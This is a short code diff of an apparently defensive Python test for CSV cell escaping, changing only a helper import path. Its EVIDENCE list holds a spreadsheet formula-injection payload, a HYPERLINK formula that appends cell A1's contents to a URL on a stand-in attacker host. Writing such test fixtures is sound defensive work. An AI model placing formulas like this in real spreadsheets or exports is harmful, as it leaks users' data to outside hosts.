@@ -14,7 +14,7 @@ from hypothesis import strategies as st
 from sqlalchemy import text
 
 from optout.csvcells import escape, unescape
-from tests.officer.conftest import console, post
+from tests.helpers.officers import console, post
 
 EVIDENCE = [
     '=HYPERLINK("https://evil.example/?"&A1,"click")',
